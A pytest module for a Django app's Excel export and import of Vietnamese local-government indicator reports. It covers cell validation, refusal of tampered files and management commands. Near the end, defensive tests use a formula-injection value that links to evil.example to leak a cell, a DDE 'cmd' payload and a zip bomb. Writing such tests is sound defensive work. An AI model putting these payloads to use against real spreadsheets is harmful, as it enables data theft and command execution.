"""Offline reporting with Excel, on real files: the export writes an .xlsx, the test fills cells
the way a person would (openpyxl), saves it, and the import reads it back."""

import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.utils import timezone
from openpyxl import load_workbook

from indicators.models import Indicator
from org.models import Role
from org.scope import UserScope
from plans.tests.factories import PlanFactory, TaskDeadlineFactory
from reporting import excel, selectors, services
from reporting.models import Event, Reminder, Report, ReportValue, TaskUpdate, WorkflowStatus
from reporting.tests.factories import (
    IndicatorFactory,
    PeriodFactory,
    ScheduleFactory,
    ScheduleIndicatorFactory,
    previous_month,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    """The `setup` fixture makes four users; Argon2 would spend most of these tests hashing."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def kinds(setup):
    """A yes/no and a text indicator added to the setup's schedule (it has a ratio and a count)."""
    boolean = ScheduleIndicatorFactory(
        schedule=setup.schedule,
        indicator=IndicatorFactory(name="Có cổng thông tin điện tử", kind=Indicator.Kind.BOOLEAN),
    ).indicator
    text = ScheduleIndicatorFactory(
        schedule=setup.schedule,
        indicator=IndicatorFactory(name="Mô hình tiêu biểu", kind=Indicator.Kind.TEXT, unit=""),
        required=False,
    ).indicator
    return boolean, text


class ReportFile:
    """An exported report on disk, edited cell by cell and imported like a person would."""

    def __init__(self, report: Report, path: Path):
        self.path = path
        sheet = selectors.report_sheet(report)
        self.layout = excel.report_layout(sheet)
        path.write_bytes(excel.report_workbook(sheet))

    def cell(self, item, field: str | None = None) -> str:
        if isinstance(item, str):
            key = item
        elif isinstance(item, Indicator):
            key = f"value-{item.pk}"
        else:
            key = f"task-{item.pk}"
        slot = next(slot for slot in self.layout.slots if slot.key == key)
        return slot.cells[field] if field else slot.first_cell

    def workbook(self):
        return load_workbook(self.path)

    def fill(self, cells: dict) -> None:
        book = self.workbook()
        sheet = book[self.layout.sheet_title]
        for address, value in cells.items():
            sheet[address] = value
        book.save(self.path)

    def edit(self, change) -> None:
        """Apply `change(workbook)` and save, for edits other than typing in a cell."""
        book = self.workbook()
        change(book)
        book.save(self.path)


def export(report: Report, tmp_path: Path) -> ReportFile:
    return ReportFile(Report.objects.get(pk=report.pk), tmp_path / f"bao-cao-{report.pk}.xlsx")


def import_file(setup, report_file, role=Role.REPORTER, **kwargs) -> Report:
    """Import as the setup's person in `role`; `report_file` is a ReportFile or a plain path."""
    return excel.report_import(
        file=getattr(report_file, "path", report_file),
        scope=setup.scope[role],
        user=setup.user(role),
        **kwargs,
    )


def snapshot(report: Report) -> tuple:
    """Everything an import could change: figures, task updates, narrative, version, events."""
    report = Report.objects.get(pk=report.pk)
    values = ReportValue.objects.filter(report=report).order_by("indicator_id")
    updates = TaskUpdate.objects.filter(report=report).order_by("task_id")
    return (
        report.version,
        report.status,
        report.results,
        report.difficulties,
        report.proposals,
        list(values.values_list("indicator_id", "value", "numerator", "denominator", "text")),
        list(values.values_list("comment", flat=True)),
        list(updates.values_list("task_id", "status", "progress", "note", "evidence_link")),
        Event.objects.filter(report=report).count(),
    )


def refusal(setup, report_file, **kwargs) -> str:
    """Import, expect a refusal that leaves the database as it was, return its messages."""
    before = snapshot(setup.report)
    with pytest.raises(excel.ExcelRefused) as exc:
        import_file(setup, report_file, **kwargs)
    assert snapshot(setup.report) == before
    assert exc.value.problems
    return "\n".join(exc.value.problems)


def validations_of(sheet, address: str) -> list:
    return [rule for rule in sheet.data_validations.dataValidation if address in rule.sqref]


def previous_report(setup, kinds=None) -> Report:
    """Last month's report of the same unit, accepted with figures of every kind."""
    start = previous_month(setup.period.start)
    period = PeriodFactory(schedule=setup.schedule, start=start)
    report = Report.objects.create(
        unit=setup.report.unit, period=period, status=WorkflowStatus.ACCEPTED
    )
    ReportValue.objects.create(
        report=report, indicator=setup.ratio, numerator=Decimal(60), denominator=Decimal(80)
    )
    ReportValue.objects.create(report=report, indicator=setup.count, value=Decimal(2))
    if kinds:
        ReportValue.objects.create(report=report, indicator=kinds[0], value=1)
        ReportValue.objects.create(report=report, indicator=kinds[1], text="Tổ công nghệ số")
    TaskUpdate.objects.create(
        report=report, task=setup.task, status=TaskUpdate.Status.IN_PROGRESS, progress=30
    )
    return report


class TestReportWorkbook:
    def test_the_file_names_the_unit_the_period_and_its_due_date(self, setup, tmp_path):
        sheet = export(setup.report, tmp_path).workbook()["Báo cáo"]
        heading = "\n".join(str(sheet[f"C{row}"].value) for row in range(2, 10))
        assert "UBND xã Thống Nhất (mã P1-X1)" in heading
        assert f"{setup.period.label} (mã kỳ {setup.period.code})" in heading
        assert setup.period.due_date.strftime("%d/%m/%Y") in heading
        assert setup.schedule.name in heading

    def test_last_periods_figures_and_the_current_draft_are_prefilled(self, setup, kinds, tmp_path):
        boolean, text = kinds
        previous_report(setup, kinds)
        TaskDeadlineFactory(task=setup.task)
        setup.fill(
            values={
                setup.ratio.pk: {"numerator": "70.5", "denominator": 100, "comment": "Tăng mạnh."},
                setup.count.pk: {"value": "3"},
                boolean.pk: {"value": 0},
                text.pk: {"text": "Mô hình bình dân học vụ số"},
            }
        )
        report_file = export(setup.report, tmp_path)
        sheet = report_file.workbook()["Báo cáo"]
        row = {item: report_file.cell(item)[1:] for item in (setup.ratio, setup.count, *kinds)}
        assert sheet[f"D{row[setup.ratio]}"].value == "60 / 80 (75%)"
        assert sheet[f"D{row[setup.count]}"].value == 2
        assert sheet[f"D{row[boolean]}"].value == "Có"
        assert sheet[f"D{row[text]}"].value == "Tổ công nghệ số"
        assert sheet[report_file.cell(setup.ratio, "numerator")].value == 70.5
        assert sheet[report_file.cell(setup.ratio, "denominator")].value == 100
        assert sheet[report_file.cell(setup.ratio, "comment")].value == "Tăng mạnh."
        assert sheet[report_file.cell(setup.count, "value")].value == 3
        assert sheet[report_file.cell(boolean, "value")].value == "Không"
        assert sheet[report_file.cell(text, "text")].value == "Mô hình bình dân học vụ số"
        task_row = report_file.cell(setup.task)[1:]
        assert sheet[f"C{task_row}"].value == "Thường xuyên"
        assert sheet[f"D{task_row}"].value == "Đang thực hiện, 30%"
        assert sheet[report_file.cell(setup.task, "status")].value == "Đang thực hiện"
        assert sheet[report_file.cell(setup.task, "progress")].value == 40
        assert sheet[report_file.cell("results")].value == "Đã triển khai."

    def test_only_the_yellow_cells_can_be_edited_and_each_is_validated(
        self, setup, kinds, tmp_path
    ):
        boolean, text = kinds
        report_file = export(setup.report, tmp_path)
        book = report_file.workbook()
        sheet = book["Báo cáo"]
        assert sheet.protection.sheet and book.security.lockStructure
        assert not sheet.protection.password
        inputs = [address for slot in report_file.layout.slots for address in slot.cells.values()]
        for address in inputs:
            assert sheet[address].protection.locked is False, address
            assert validations_of(sheet, address), address
        ratio_row = report_file.cell(setup.ratio)[1:]
        for address in (f"A{ratio_row}", f"B{ratio_row}", f"D{ratio_row}", f"H{ratio_row}"):
            assert sheet[address].protection.locked is True
        header = report_file.layout.values_row + 1
        assert [sheet[f"{c}{header}"].value for c in "EFGI"] == [
            "Giá trị",
            "Tử số",
            "Mẫu số",
            "Giải trình",
        ]
        assert sheet[f"H{ratio_row}"].value.startswith("=IF(")

        (number,) = validations_of(sheet, report_file.cell(setup.ratio, "numerator"))
        assert (number.type, number.operator, number.formula1) == (
            "decimal",
            "greaterThanOrEqual",
            "0",
        )
        assert "số không âm" in number.error
        (yes_no,) = validations_of(sheet, report_file.cell(boolean, "value"))
        assert (yes_no.type, yes_no.formula1) == ("list", '"Có,Không"')
        (status,) = validations_of(sheet, report_file.cell(setup.task, "status"))
        assert status.formula1 == '"Chưa thực hiện,Đang thực hiện,Hoàn thành,Quá hạn"'
        (progress,) = validations_of(sheet, report_file.cell(setup.task, "progress"))
        assert (progress.type, progress.formula1, progress.formula2) == ("whole", "0", "100")
        assert all(rule.showErrorMessage and rule.error for rule in validations_of(sheet, "I11"))

    def test_the_identity_sheet_is_very_hidden_and_names_the_report(self, setup, tmp_path):
        meta = export(setup.report, tmp_path).workbook()[excel.META_SHEET]
        assert meta.sheet_state == "veryHidden"
        fields = {row[0]: row[1] for row in meta.iter_rows(min_row=2, values_only=True)}
        assert fields["report"] == setup.report.pk
        assert fields["unit"] == "P1-X1"
        assert fields["period_code"] == setup.period.code
        assert fields[f"value-{setup.ratio.pk}"] == "ratio"


class TestReportImport:
    def test_every_kind_of_figure_the_tasks_and_the_narrative_are_saved(
        self, setup, kinds, tmp_path
    ):
        boolean, text = kinds
        report_file = export(setup.report, tmp_path)
        report_file.fill(
            {
                report_file.cell(setup.ratio, "numerator"): 70.5,
                report_file.cell(setup.ratio, "denominator"): 100,
                report_file.cell(setup.ratio, "comment"): "Số hồ sơ tăng.",
                report_file.cell(setup.count, "value"): 12,
                report_file.cell(boolean, "value"): "Có",
                report_file.cell(text, "text"): "Mô hình “Chợ 4.0”",
                report_file.cell(setup.task, "status"): "Hoàn thành",
                report_file.cell(setup.task, "progress"): 100,
                report_file.cell(setup.task, "note"): "Đã ban hành quy chế.",
                report_file.cell(setup.task, "evidence_link"): "https://example.gov.vn/qc",
                report_file.cell("results"): "Hoàn thành kế hoạch tháng.",
                report_file.cell("difficulties"): "Đường truyền yếu.",
                report_file.cell("proposals"): "Hỗ trợ thiết bị.",
            }
        )
        report = import_file(setup, report_file, ip="10.0.0.7")

        rows = {row.indicator_id: row for row in report.values.all()}
        assert (rows[setup.ratio.pk].numerator, rows[setup.ratio.pk].denominator) == (
            Decimal("70.5"),
            100,
        )
        assert rows[setup.ratio.pk].comment == "Số hồ sơ tăng."
        assert rows[setup.count.pk].value == 12
        assert rows[boolean.pk].value == 1
        assert rows[text.pk].text == "Mô hình “Chợ 4.0”"
        update = report.task_updates.get()
        assert (update.status, update.progress) == (TaskUpdate.Status.DONE, 100)
        assert update.note == "Đã ban hành quy chế."
        assert update.evidence_link == "https://example.gov.vn/qc"
        assert (report.results, report.difficulties, report.proposals) == (
            "Hoàn thành kế hoạch tháng.",
            "Đường truyền yếu.",
            "Hỗ trợ thiết bị.",
        )
        assert report.version == 2
        event = report.events.get()
        assert (event.kind, event.user, event.ip_address) == (
            Event.Kind.IMPORT,
            setup.user(Role.REPORTER),
            "10.0.0.7",
        )
        assert event.changes[f"value-{setup.count.pk}"] == {"value": [None, "12.0000"]}

    def test_an_untouched_template_saves_no_empty_rows(self, setup, tmp_path):
        import_file(setup, export(setup.report, tmp_path))
        assert not ReportValue.objects.exists()
        assert not TaskUpdate.objects.exists()
        assert not Event.objects.exists()

    def test_a_ratio_with_only_its_numerator_is_kept_as_a_draft(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        report_file.fill({report_file.cell(setup.ratio, "numerator"): 7})
        row = import_file(setup, report_file).values.get(indicator=setup.ratio)
        assert (row.numerator, row.denominator) == (7, None)

    def test_figures_written_as_text_the_vietnamese_way_are_read(self, setup, kinds, tmp_path):
        boolean, _text = kinds
        report_file = export(setup.report, tmp_path)
        report_file.fill(
            {
                report_file.cell(setup.ratio, "numerator"): "1.234,5",
                report_file.cell(setup.ratio, "denominator"): " 2000 ",
                report_file.cell(boolean, "value"): " không ",
                # "Hoàn thành" typed with combining marks, as some Windows keyboards do.
                report_file.cell(setup.task, "status"): "hoa\u0300n tha\u0300nh",
            }
        )
        report = import_file(setup, report_file)
        ratio = report.values.get(indicator=setup.ratio)
        assert (ratio.numerator, ratio.denominator) == (Decimal("1234.5"), 2000)
        assert report.values.get(indicator=boolean).value == 0
        update = report.task_updates.get()
        assert (update.status, update.progress) == (TaskUpdate.Status.DONE, 100)

    def test_an_emptied_cell_clears_what_was_saved(self, setup, tmp_path):
        setup.fill()
        report_file = export(setup.report, tmp_path)
        report_file.fill(
            {report_file.cell(setup.count, "value"): None, report_file.cell("results"): None}
        )
        report = import_file(setup, report_file)
        assert report.values.get(indicator=setup.count).value is None
        assert report.results == ""
        assert report.values.get(indicator=setup.ratio).numerator == 70

    def test_the_page_may_insist_on_its_own_report(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        report_file.fill({report_file.cell(setup.count, "value"): 4})
        report = import_file(setup, report_file, expected_report=setup.fresh())
        assert report.values.get(indicator=setup.count).value == 4

    def test_an_uploaded_file_object_is_read_like_a_path(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        report_file.fill({report_file.cell(setup.count, "value"): 9})
        report = excel.report_import(
            file=io.BytesIO(report_file.path.read_bytes()),
            scope=setup.scope[Role.REPORTER],
            user=setup.user(Role.REPORTER),
        )
        assert report.values.get(indicator=setup.count).value == 9


class TestImportRefusals:
    def test_another_units_file_is_refused(self, setup, world, tmp_path):
        plan = PlanFactory(issuer=world.other_commune)
        period = PeriodFactory(schedule=ScheduleFactory(plan=plan))
        theirs = Report.objects.create(unit=world.other_commune, period=period)
        report_file = export(theirs, tmp_path)
        report_file.fill({report_file.cell("results"): "Số liệu của xã Bắc Hà"})
        before = snapshot(theirs)
        message = refusal(setup, report_file)
        assert "Tệp này là báo cáo của đơn vị khác (mã P1-X2" in message
        assert snapshot(theirs) == before

    def test_a_file_of_another_period_is_refused_where_the_page_expects_this_one(
        self, setup, tmp_path
    ):
        last_month = previous_report(setup)
        report_file = export(last_month, tmp_path)
        report_file.fill({report_file.cell(setup.count, "value"): 9})
        before = snapshot(last_month)
        message = refusal(setup, report_file, expected_report=setup.fresh())
        assert f"không phải kỳ “{setup.period.label}”" in message
        assert snapshot(last_month) == before

    @pytest.mark.parametrize("change", ["insert", "delete"])
    def test_a_row_inserted_or_deleted_is_refused(self, setup, tmp_path, change):
        report_file = export(setup.report, tmp_path)
        row = int(report_file.cell(setup.count)[1:])
        report_file.fill({report_file.cell(setup.count, "value"): 5})

        def move_rows(book):
            sheet = book["Báo cáo"]
            if change == "insert":
                sheet.insert_rows(row)
            else:
                sheet.delete_rows(row)

        report_file.edit(move_rows)
        message = refusal(setup, report_file)
        assert f"dòng {row}: bố cục đã bị thay đổi" in message

    def test_an_indicator_added_since_the_download_is_refused(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        report_file.fill({report_file.cell(setup.count, "value"): 5})
        added = ScheduleIndicatorFactory(
            schedule=setup.schedule, indicator=IndicatorFactory(name="Số điểm wifi công cộng")
        )
        message = refusal(setup, report_file)
        assert "thêm “Số điểm wifi công cộng”" in message
        assert added.indicator.name in message

    def test_text_in_a_number_cell_is_refused_at_its_cell(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.ratio, "numerator")
        report_file.fill({address: "bảy", report_file.cell(setup.count, "value"): 5})
        message = refusal(setup, report_file)
        assert message == f"Trang 'Báo cáo', ô {address}: phải là một số, không phải chữ “bảy”."

    def test_a_figure_typed_in_a_grey_cell_of_its_row_is_refused_not_dropped(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        value = report_file.cell(setup.count, "value")  # E: a count's one cell
        beside = "F" + value[1:]  # a ratio's numerator column, unused by a count
        report_file.fill({beside: 7})
        message = refusal(setup, report_file)
        assert message == (
            f"Trang 'Báo cáo', ô {beside}: ô này không dùng cho chỉ số “{setup.count.name}”, "
            f"số liệu “7” sẽ không được nhận; hãy nhập vào ô {value}."
        )

    def test_a_formula_in_an_input_cell_is_refused(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.count, "value")
        report_file.fill({address: "=2+5"})
        message = refusal(setup, report_file)
        assert f"ô {address}: có công thức “=2+5”" in message

    def test_a_negative_number_is_refused(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.ratio, "denominator")
        report_file.fill({address: -3})
        assert f"ô {address}: không được là số âm (-3)." in refusal(setup, report_file)

    @pytest.mark.parametrize("typed", [-1e24, -1e300, "-1e24", -(10**30)])
    def test_a_huge_negative_number_is_refused_at_its_cell(self, setup, tmp_path, typed):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.ratio, "denominator")
        report_file.fill({address: typed})
        assert f"ô {address}: không được là số âm (" in refusal(setup, report_file)

    @pytest.mark.parametrize("typed", [2.5, "2,5"])
    def test_a_count_with_a_fraction_is_refused_at_its_cell(self, setup, tmp_path, typed):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.count, "value")
        report_file.fill({address: typed})
        assert refusal(setup, report_file) == (
            f"Trang 'Báo cáo', ô {address}: Số lượng phải là số nguyên (ví dụ 2 hoặc 3), "
            "không nhận 2,5."
        )

    def test_a_count_cell_asks_excel_for_a_whole_number(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        sheet = report_file.workbook()["Báo cáo"]
        (rule,) = validations_of(sheet, report_file.cell(setup.count, "value"))
        assert (rule.type, rule.operator, rule.formula1) == ("whole", "greaterThanOrEqual", "0")

    @pytest.mark.parametrize("progress", [140, 40.5, "nhiều"])
    def test_a_progress_out_of_range_or_not_whole_is_refused(self, setup, tmp_path, progress):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.task, "progress")
        report_file.fill({address: progress})
        assert f"ô {address}: " in refusal(setup, report_file)

    def test_an_unknown_status_is_refused(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.task, "status")
        report_file.fill({address: "Xong"})
        message = refusal(setup, report_file)
        assert f"ô {address}: “Xong” không có trong danh sách (Chưa thực hiện," in message

    def test_a_yes_no_answer_other_than_yes_or_no_is_refused(self, setup, kinds, tmp_path):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(kinds[0], "value")
        report_file.fill({address: "Chưa rõ"})
        assert f"ô {address}: chọn Có hoặc Không" in refusal(setup, report_file)

    def test_an_evidence_link_that_is_not_a_web_address_is_refused(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.task, "evidence_link")
        report_file.fill({address: "D:\\minh-chung\\quyet-dinh.pdf"})
        assert f"ô {address}: đường dẫn minh chứng phải bắt đầu" in refusal(setup, report_file)

    def test_every_problem_of_the_file_is_listed_at_once(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        cells = {
            report_file.cell(setup.ratio, "numerator"): "bảy",
            report_file.cell(setup.count, "value"): -1,
            report_file.cell(setup.task, "status"): "Xong",
        }
        report_file.fill(cells)
        with pytest.raises(excel.ExcelRefused) as exc:
            import_file(setup, report_file)
        assert [p.split(":")[0] for p in exc.value.problems] == [
            f"Trang 'Báo cáo', ô {address}" for address in cells
        ]

    def test_a_file_that_is_not_an_xlsx_is_refused(self, setup, tmp_path):
        path = tmp_path / "bao-cao.xlsx"
        path.write_text("STT;Chỉ số;Giá trị\n1;Tỷ lệ;70\n", encoding="utf-8")
        assert "không phải tệp Excel .xlsx" in refusal(setup, path)
        assert "không phải tệp Excel .xlsx" in refusal(setup, io.BytesIO(b"PK\x03\x04 broken zip"))

    def test_a_file_without_its_identity_sheet_is_refused(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        report_file.fill({report_file.cell(setup.count, "value"): 5})
        report_file.edit(lambda book: book.remove(book[excel.META_SHEET]))
        assert "không có phần thông tin nhận dạng" in refusal(setup, report_file)

    def test_an_identity_edited_by_hand_is_refused(self, setup, tmp_path):
        other = Report.objects.create(
            unit=setup.report.unit, period=PeriodFactory(schedule=setup.schedule, code="khac")
        )
        report_file = export(setup.report, tmp_path)

        def point_at_another_report(book):
            meta = book[excel.META_SHEET]
            for key, value in meta.iter_rows(min_row=2, max_col=2):
                if key.value == "report":
                    value.value = other.pk

        report_file.edit(point_at_another_report)
        assert "đã bị sửa hoặc hỏng" in refusal(setup, report_file)

    def test_an_accepted_report_is_locked(self, setup, tmp_path):
        setup.fill()
        report_file = export(setup.report, tmp_path)
        setup.submit()
        setup.approve()
        setup.accept()
        report_file.fill({report_file.cell(setup.count, "value"): 5})
        assert "Đã tiếp nhận" in refusal(setup, report_file)

    def test_a_report_saved_on_the_web_since_the_download_is_not_overwritten(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        setup.save(values={setup.count.pk: {"value": 8}})
        report_file.fill({report_file.cell(setup.count, "value"): 5})
        message = refusal(setup, report_file)
        assert "phiên bản 1, nay là 2" in message
        assert setup.fresh().values.get(indicator=setup.count).value == 8

    def test_a_head_who_does_not_type_the_figures_cannot_import(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        report_file.fill({report_file.cell(setup.count, "value"): 5})
        assert "không có quyền" in refusal(setup, report_file, role=Role.HEAD)

    def test_a_refusal_of_the_service_is_placed_at_its_items_cell(
        self, setup, tmp_path, monkeypatch
    ):
        def refuse(**kwargs):
            raise ValidationError({f"value-{setup.count.pk}": ["Số liệu chưa khớp."]})

        monkeypatch.setattr(services, "report_save_draft", refuse)
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.count, "value")
        assert refusal(setup, report_file) == f"Trang 'Báo cáo', ô {address}: Số liệu chưa khớp."


class TestExportCommand:
    def test_writes_the_units_report_of_the_period(self, setup, tmp_path):
        path, out = tmp_path / "xa.xlsx", io.StringIO()
        call_command(
            "export_report_template",
            unit="P1-X1",
            period=setup.period.code,
            output=str(path),
            stdout=out,
        )
        assert str(path) in out.getvalue()
        meta = load_workbook(path)[excel.META_SHEET]
        fields = {row[0]: row[1] for row in meta.iter_rows(min_row=2, values_only=True)}
        assert fields["report"] == setup.report.pk

    def test_opens_the_report_when_the_unit_has_not_yet(self, setup, tmp_path):
        period = PeriodFactory(schedule=setup.schedule, start=previous_month(setup.period.start))
        call_command(
            "export_report_template",
            unit="P1-X1",
            period=period.code,
            output=str(tmp_path / "x.xlsx"),
            stdout=io.StringIO(),
        )
        assert Report.objects.filter(unit__code="P1-X1", period=period).exists()

    def test_refuses_an_unknown_unit_or_period(self, setup, tmp_path):
        out = str(tmp_path / "x.xlsx")
        with pytest.raises(CommandError, match="Không có đơn vị mã “X9”"):
            call_command("export_report_template", unit="X9", period="2026-11", output=out)
        with pytest.raises(CommandError, match="không có kỳ “1999-01”"):
            call_command("export_report_template", unit="P1-X1", period="1999-01", output=out)
        assert not Path(out).exists()

    def test_asks_for_the_schedule_when_two_have_the_period(self, setup, tmp_path):
        second = ScheduleFactory(plan=setup.schedule.plan, name="Báo cáo chuyên đề")
        PeriodFactory(schedule=second)
        out = str(tmp_path / "x.xlsx")
        with pytest.raises(CommandError, match="--schedule"):
            call_command(
                "export_report_template", unit="P1-X1", period=setup.period.code, output=out
            )
        call_command(
            "export_report_template",
            unit="P1-X1",
            period=setup.period.code,
            schedule=second.pk,
            output=out,
            stdout=io.StringIO(),
        )
        assert Report.objects.filter(period__schedule=second).count() == 1


class TestImportCommand:
    def test_imports_and_submits_with_the_users_rights(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        report_file.fill(
            {
                report_file.cell(setup.ratio, "numerator"): 70,
                report_file.cell(setup.ratio, "denominator"): 100,
                report_file.cell(setup.count, "value"): 3,
                report_file.cell(setup.task, "status"): "Đang thực hiện",
                report_file.cell(setup.task, "progress"): 40,
            }
        )
        out = io.StringIO()
        call_command(
            "import_report",
            str(report_file.path),
            user=setup.user(Role.REPORTER).username,
            submit=True,
            stdout=out,
        )
        report = setup.fresh()
        assert report.status == WorkflowStatus.SUBMITTED
        assert report.values.get(indicator=setup.count).value == 3
        assert "Đã gửi" in out.getvalue()

    def test_a_refused_file_prints_each_problem_and_fails(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        address = report_file.cell(setup.ratio, "numerator")
        report_file.fill({address: "bảy"})
        err, before = io.StringIO(), snapshot(setup.report)
        with pytest.raises(CommandError, match="không được nhập"):
            call_command(
                "import_report",
                str(report_file.path),
                user=setup.user(Role.REPORTER).username,
                stderr=err,
            )
        assert f"ô {address}: phải là một số" in err.getvalue()
        assert snapshot(setup.report) == before

    def test_a_submission_refused_after_the_import_says_why(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        report_file.fill({report_file.cell(setup.count, "value"): 3})
        err = io.StringIO()
        with pytest.raises(CommandError, match="chưa gửi được"):
            call_command(
                "import_report",
                str(report_file.path),
                user=setup.user(Role.REPORTER).username,
                submit=True,
                stderr=err,
                stdout=io.StringIO(),
            )
        assert f"“{setup.ratio.name}”: Nhập tử số và mẫu số." in err.getvalue()
        report = setup.fresh()
        assert report.status == WorkflowStatus.DRAFT
        assert report.values.get(indicator=setup.count).value == 3

    def test_refuses_an_unknown_user(self, setup, tmp_path):
        report_file = export(setup.report, tmp_path)
        with pytest.raises(CommandError, match="Không có người dùng “ai”"):
            call_command("import_report", str(report_file.path), user="ai")


class TestOfficeWorkbooks:
    def test_board_lists_each_units_state_lateness_completeness_and_totals(self, setup):
        last_month = previous_report(setup)
        Report.objects.filter(pk=last_month.pk).update(
            submitted_at=timezone.now(), days_late=2, completeness=100
        )
        reminder = Reminder.objects.create(
            period=setup.period, unit=setup.report.unit, kind="after", recipients=["a@b.vn"]
        )
        board = selectors.period_board(
            scope=UserScope(user_id=None, is_superuser=True),
            schedule=setup.schedule,
            today=setup.period.due_date + datetime.timedelta(days=3),
        )
        sheet = load_workbook(io.BytesIO(excel.board_workbook(board))).active
        assert sheet["D4"].value.startswith(last_month.period.label)
        reminded = timezone.localdate(reminder.sent_at).strftime("%d/%m/%Y")
        assert [c.value for c in sheet[6]] == [
            1,
            "UBND xã Thống Nhất",
            "P1-X1",
            "Đã tiếp nhận",
            2,
            100,
            f"Chưa nộp (quá hạn) — đã nhắc {reminded}",
            3,
            0,
            1,  # submitted late; the missing period is counted in the next column
            1,
        ]
        totals = {
            sheet[f"B{row}"].value: (sheet[f"D{row}"].value, sheet[f"G{row}"].value)
            for row in range(7, 11)
        }
        assert totals == {
            "Tổng số đã tiếp nhận": (1, 0),
            "Tổng số nộp đúng hạn": (0, 0),
            "Tổng số nộp trễ hạn": (1, 0),
            "Tổng số chưa nộp (quá hạn)": (0, 1),
        }

    def test_period_figures_give_each_report_a_row_and_each_indicator_its_columns(
        self, setup, kinds
    ):
        boolean, _text = kinds
        setup.fill(
            values={
                setup.ratio.pk: {"numerator": "70.5", "denominator": 100},
                setup.count.pk: {"value": "1234"},
                boolean.pk: {"value": 1},
            }
        )
        reports = (
            Report.objects.filter(period=setup.period)
            .select_related("unit")
            .prefetch_related("values__indicator")
        )
        sheet = load_workbook(
            io.BytesIO(excel.period_figures_workbook(period=setup.period, reports=reports))
        ).active
        assert [sheet.cell(4, c).value for c in (7, 10, 11, 12)] == [
            setup.ratio.name,
            setup.count.name,
            boolean.name,
            "Mô hình tiêu biểu",
        ]
        assert [sheet.cell(5, c).value for c in range(7, 13)] == [
            "Tử số",
            "Mẫu số",
            "Tỷ lệ (%)",
            "Giá trị (mô hình)",
            "Có/Không",
            "Nội dung",
        ]
        row = [c.value for c in sheet[6]]
        assert row[:4] == [1, "P1-X1", "UBND xã Thống Nhất", "Đang soạn"]
        assert row[6:12] == [70.5, 100, 0.705, 1234, "Có", None]
        assert sheet.cell(6, 7).number_format == "#,##0.0###"
        assert sheet.cell(6, 10).number_format == "#,##0"


class TestTextStaysText:
    """Text a person typed never becomes a formula in a file someone else opens."""

    def test_a_narrative_that_looks_like_a_formula_stays_text_and_comes_back(self, setup):
        formula = '=HYPERLINK("http://evil.example/?"&C3,"Bấm để xem")'
        setup.fill(
            narrative={"results": formula},
            values={setup.count.pk: {"value": 3, "comment": "=1+1"}},
        )
        data = excel.report_workbook(selectors.report_sheet(setup.fresh()))
        sheet = load_workbook(io.BytesIO(data))["Báo cáo"]
        cells = [c for row in sheet.iter_rows() for c in row if c.value in (formula, "=1+1")]
        assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
        report = excel.report_import(
            file=io.BytesIO(data),
            scope=setup.scope[Role.REPORTER],
            user=setup.user(Role.REPORTER),
            expected_report=setup.fresh(),
        )
        assert report.results == formula

    def test_the_period_figures_keep_a_text_value_as_text(self, setup):
        from indicators.models import Indicator

        text = ScheduleIndicatorFactory(
            schedule=setup.schedule,
            indicator=IndicatorFactory(kind=Indicator.Kind.TEXT, unit=""),
            required=False,
        ).indicator
        setup.fill(values={text.pk: {"text": "=cmd|' /C calc'!A0"}})
        reports = (
            Report.objects.filter(period=setup.period)
            .select_related("unit")
            .prefetch_related("values__indicator")
        )
        data = excel.period_figures_workbook(period=setup.period, reports=list(reports))
        sheet = load_workbook(io.BytesIO(data)).active
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(setup, tmp_path):
    import zipfile

    bomb = tmp_path / "bao-cao.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (60 * 1024 * 1024))
    with pytest.raises(excel.ExcelRefused) as exc:
        excel.report_import(
            file=str(bomb), scope=setup.scope[Role.REPORTER], user=setup.user(Role.REPORTER)
        )
    assert "quá lớn" in exc.value.problems[0]


def test_a_file_with_a_task_not_started_at_90_percent_is_refused_at_its_cell(setup, tmp_path):
    report_file = export(setup.report, tmp_path)
    report_file.fill(
        {
            report_file.cell(setup.task, "status"): "Chưa thực hiện",
            report_file.cell(setup.task, "progress"): 90,
        }
    )
    before = snapshot(setup.report)
    message = refusal(setup, report_file)
    assert "tiến độ là 0%" in message and "ô " in message
    assert snapshot(setup.report) == before
